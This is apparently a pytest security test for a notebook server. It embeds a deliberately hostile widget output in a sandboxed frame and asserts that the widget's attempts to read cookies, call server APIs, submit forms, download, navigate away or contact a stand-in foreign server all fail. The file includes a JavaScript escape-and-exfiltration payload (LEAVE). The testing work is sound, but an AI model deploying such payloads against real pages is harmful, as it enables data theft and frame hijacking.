"""A notebook whose output is hostile, in a real browser, in a frame on a page of this server: it gets nothing.

The editor is the real one, in its sandbox; the output is a widget, whose script runs in the notebook's own page.
"""

# ruff: noqa: F811
from __future__ import annotations

import asyncio
import json
import shutil
from pathlib import Path
from typing import Any

import pytest
from tests.handlers.conftest import http, jp_server_config, listening, server, services  # noqa: F401
from tests.handlers.framed import Framed, run_all
from tests.handlers.live_client import make_session
from tests.handlers.test_report_in_browser import CHROMIUM, browse  # noqa: F401

pytestmark = [
    pytest.mark.slow,
    pytest.mark.skipif(CHROMIUM is None, reason="there is no chromium here"),
    pytest.mark.skipif(shutil.which("bwrap") is None, reason="there is no bubblewrap here"),
]

WIDGET = Path(__file__).with_name("hostile_widget.js")
"""What a script in an output may try; it leaves what came of it in ``window.hostile``."""

LEAVE = """(() => {
  addEventListener("click", e => e.stopImmediatePropagation(), true);
  const f = document.createElement("form"); f.action = "%(foreign)s/form"; document.body.append(f); f.submit();
  const a = document.createElement("a");
  a.href = "%(foreign)s/download"; a.download = "x"; document.body.append(a); a.click();
  setTimeout(() => { location.href = "%(foreign)s/navigate?" + document.body.innerText.length; }, 200);
  return true;
})()"""

NOTEBOOK = """import marimo

__generated_with = "0.25.2"
app = marimo.App()


@app.cell
def widget():
    import anywidget

    class Widget(anywidget.AnyWidget):
        _esm = %r

    Widget()
    return


if __name__ == "__main__":
    app.run()
"""


@pytest.fixture
def jp_base_url():
    return "/user/ana/"


@pytest.fixture
def foreign(jp_asyncio_loop):
    """A server that is not ours: its address, and what it was asked for."""
    asked: list[str] = []

    async def answer(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        asked.append((await reader.readline()).decode("latin-1").strip())
        writer.write(
            b"HTTP/1.1 200 OK\r\nAccess-Control-Allow-Origin: *\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok"
        )
        await writer.drain()
        writer.close()

    class Datagrams(asyncio.DatagramProtocol):
        def datagram_received(self, data: bytes, addr: Any) -> None:  # noqa: ARG002
            asked.append("a datagram")

    listener = jp_asyncio_loop.run_until_complete(asyncio.start_server(answer, "127.0.0.1", 0))
    port = listener.sockets[0].getsockname()[1]
    udp, _ = jp_asyncio_loop.run_until_complete(
        jp_asyncio_loop.create_datagram_endpoint(Datagrams, local_addr=("127.0.0.1", port))
    )
    yield f"http://127.0.0.1:{listener.sockets[0].getsockname()[1]}", asked
    udp.close()
    listener.close()
    jp_asyncio_loop.run_until_complete(listener.wait_closed())


@pytest.fixture
def hostile(services, http, listening, jp_root_dir, jp_base_url, foreign):
    """``await hostile()``: the id of a session with the hostile notebook."""

    async def make() -> str:
        id = await make_session(services, http, jp_root_dir)
        here = f"http://{listening}"
        names = {"origin": here, "base": here + jp_base_url, "foreign": foreign[0]}
        names["stun"] = foreign[0].removeprefix("http://")
        names["ws"] = f"ws://{listening}{jp_base_url}api/events/subscribe"
        widget = WIDGET.read_text()
        for name, value in names.items():
            widget = widget.replace(f"{{{{{name}}}}}", value)
        (jp_root_dir / "research" / "p" / "notebook.py").write_text(NOTEBOOK % widget)
        return id

    return make


async def test_a_hostile_output_gets_nothing(
    hostile,
    browse,
    http,
    services,
    listening,
    jp_serverapp,
    jp_base_url,
    jp_root_dir,
    foreign,
):
    id = await hostile()
    opened = await http("POST", f"api/chats/{id}/notebook/open", body={"mode": "watch"})
    assert opened.status == 200, opened.body
    here = f"http://{listening}"
    tab = await browse(f"{here}{jp_base_url}login?token={jp_serverapp.identity_provider.token}")
    tab = Framed.of(tab)
    await tab.embed(here + opened.json["url"])
    editor = services.editors.get((jp_root_dir / "research" / "p").resolve())
    await run_all(editor)
    found = json.loads(await tab.until_inside("window.hostile || ''"))
    assert found.pop("health") == 200  # its own page works
    assert found.pop("origin") == "null"
    assert {name: found.pop(name) for name in ("cookie", "window")} == {"cookie": "", "window": "null"}
    for name in ("token", "login", "host"):
        assert found.pop(name) == 404, name
    for name in ("run", "takeover", "save", "interrupt"):
        assert found.pop(name) == 403, name
    assert (found.pop("inner"), found.pop("worker")) == ("inner TypeError", "TypeError")
    for name in ("beacon", "css", "prefetch", "nested", "meta"):  # they fail in silence; nobody was asked, see below
        assert found.pop(name) in ("queued", "written"), name
    assert found.pop("rtc").startswith("refused")
    assert {str(answer).partition(":")[0] for answer in found.values()} == {"refused"}, found
    await asyncio.sleep(1)
    assert foreign[1] == []
    await tab.js(
        "document.querySelector('iframe').contentWindow.postMessage({type: 'postdoc:theme', theme: 'dark'}, '*')"
    )
    assert await tab.until_inside("document.body.classList.contains('dark')")
    # What takes the frame away comes last: the outer page keeps it here.
    await tab.inside(LEAVE % {"foreign": foreign[0]})
    await asyncio.sleep(2)
    assert foreign[1] == []
    told = json.loads(await tab.js("JSON.stringify(told)"))
    assert {"type": "postdoc-notebook", "event": "open", "url": f"{foreign[0]}/window"} in told
    assert "loaded" in [message["event"] for message in told]
